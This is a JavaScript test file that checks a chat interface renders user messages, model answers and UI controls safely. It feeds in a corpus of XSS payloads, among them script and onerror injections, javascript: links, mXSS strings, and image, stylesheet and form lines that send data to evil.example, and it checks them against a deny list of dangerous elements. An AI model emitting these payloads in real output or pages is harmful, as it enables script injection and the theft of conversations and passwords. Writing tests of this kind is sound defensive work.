// What anyone may write and a model may say: none of it may run, load or leave.
//
// Each string goes through the page in three ways: as a message, as an answer and as controls. The latter two are put on
// the real socket between the server and the page.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Stage, becomes, wire } from './stage.mjs';

const stage = new Stage({ wordPause: 1 });
before(() => stage.open());
after(() => stage.close());

const CORPUS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><circle r=9></svg>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<style>* { display: none }</style><link rel=stylesheet href=//evil.example/a.css>',
  '<form action="//evil.example"><input name=password><button>Go</button></form>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt&colon;window.pwned=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click]( "onmouseover=window.pwned=1 x=")',
  '![steal](https://evil.example/steal.png?said=everything)',
  '![x](x"onerror="window.pwned=1)',
  '[ref]\n\n[ref]: javascript:window.pwned=1 "x"',
  '`<img src=x onerror=window.pwned=1>` and <b onclick=window.pwned=1>bold</b>',
  '```"><script>window.pwned=1</script>\n<img src=x onerror=window.pwned=1>\n```',
  '| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <a href="javascript:window.pwned=1">x</a> | y |',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<https://evil.example/?x="onclick=window.pwned=1>',
  '<a id=app name=cookie href=https://evil.example>clobber</a>',
  '- [ ] <input autofocus onfocus=window.pwned=1>',
];

test('a message shows as it was written, now and after a reload', () =>
  stage.visit({}, async (visitor, page) => {
    for (const text of CORPUS) await visitor.ask(text);
    for (let round = 0; round < 2; round += 1) {
      const shown = () => page.locator('.question').evaluateAll((questions) => questions.map(({ lastChild }) => lastChild.textContent));
      await becomes(shown, CORPUS);
      await isHarmless(page);
      await visitor.reload();
    }
  }));

test('an answer and its controls show as text and safe links', async () => {
  const { prepare, inject } = wire();
  await stage.visit({ prepare }, async (visitor, page) => {
    let seq = 1_000_000;
    CORPUS.forEach((content, at) => {
      const id = `msg_${9000 + at}`;
      const trace = { id, message: content, graph: content, path: content, status: 'error', started_at: 0, total_frames: 1, total_ms: 1, frames: [] };
      for (const event of [
        { event: 'turn_started', message: content, entry: 'message' },
        { event: 'thinking', detail: content, kind: 'progress' },
        { event: 'streaming', text: content },
        { event: 'error', detail: content },
        { event: 'frame_trace', trace },
      ]) {
        inject({ node: content, at: 0, turn: id, frame: 1, seq: (seq += 1), ...event });
      }
    });
    await page.locator('.turn .failure').nth(CORPUS.length - 1).waitFor();
    await isHarmless(page);
    for (const link of await page.locator('.answer a').all()) {
      assert.match(await link.getAttribute('href'), /^(https?|mailto):/);
      assert.deepEqual([await link.getAttribute('rel'), await link.getAttribute('target')], ['noopener noreferrer', '_blank']);
    }

    const controls = CORPUS.flatMap((text) => [
      { type: 'button', label: text, action: text, source: 'thinker' },
      { type: 'text', label: text, text },
      { type: 'value', label: text, value: text, unit: text },
      { type: 'progress', label: text, value: text, max: text },
      { type: 'table', label: text, columns: [text], rows: [[text], { a: text }, text, null] },
      { type: 'chart', label: text, kind: text, x: [text], series: [{ name: text, values: [1, text] }] },
    ]);
    inject({ event: 'controls', controls, turn: 'msg_9000', frame: 1, at: 0, seq: (seq += 1) });
    await page.locator('.control').nth(CORPUS.length - 1).waitFor();
    await isHarmless(page);
    await visitor.picture('safety');
  });
});

test('displays with odd or missing fields are drawn as well as they can be', async () => {
  const { prepare, inject } = wire();
  await stage.visit({ prepare }, async (visitor, page) => {
    const odd = [undefined, null, 0, -1, 1e300, '', 'x', true, [], [null], {}, { a: { b: 1 } }, [[1, 2], [3]]];
    const kinds = ['text', 'value', 'progress', 'table', 'chart', 'button', 'hologram'];
    const fields = ['text', 'value', 'max', 'unit', 'columns', 'rows', 'kind', 'x', 'series', 'label'];
    const controls = kinds.flatMap((type) => odd.flatMap((value) => fields.map((field) => ({ type, action: 'a', [field]: value }))));
    inject({ event: 'controls', controls, turn: 'msg_1', frame: 1, at: 0, seq: 1 });
    await page.locator('.control').first().waitFor();
    await visitor.ask('hello');
  });
});

/** Nothing ran, and nothing stands on the page that could. */
async function isHarmless(page) {
  const found = await page.evaluate(() => {
    const within = '.turn, .controls';
    const wrong = 'script, img, iframe, object, embed, style, link, form, input, svg:not(.icon, .chart svg), math, base, meta';
    const elements = [...document.querySelectorAll(within)].flatMap((part) => [...part.querySelectorAll('*')]);
    return {
      pwned: globalThis.pwned,
      elements: elements.filter((element) => element.matches(wrong)).map(({ outerHTML }) => outerHTML),
      handlers: elements.filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith('on'))).map(({ outerHTML }) => outerHTML),
    };
  });
  assert.deepEqual(found, { pwned: undefined, elements: [], handlers: [] });
}
